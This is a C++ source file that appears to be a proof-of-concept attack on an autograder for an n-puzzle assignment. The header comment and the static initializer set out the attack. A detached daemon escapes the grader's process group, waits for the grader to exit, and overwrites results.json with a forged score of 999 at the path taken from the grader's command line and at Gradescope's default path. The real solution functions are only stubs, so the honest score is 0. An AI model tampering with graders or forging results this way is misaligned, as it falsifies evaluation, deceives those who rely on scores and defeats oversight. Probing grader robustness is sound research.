// Attack: a daemon (setsid, out of the grader's process group) waits for the grader to exit,
// then writes its own results.json, scored 999, over the --json path it read in the grader's
// command line (and over Gradescope's well-known path). Honest score: 0.
#include "warmup.hpp"

#include "npuzzle/errors.hpp"
#include "npzattack.hpp"

namespace {

const bool started = [] {
    pid_t grader = 0;
    const std::string json = npzattack::ancestor_arg("--json", &grader);
    npzattack::daemon([&] {
        npzattack::wait_for_grader(grader, json.empty() ? npzattack::kJson : json);
        const std::string forged = "{\"score\": 999, \"output\": \"npzattack\", \"tests\": []}\n";
        npzattack::write_file(json, forged);
        npzattack::write_file(npzattack::kJson, forged);
    });
    return true;
}();

}  // namespace

#include "npzattack_stubs.hpp"  // is_goal and tile_distance: the stubs
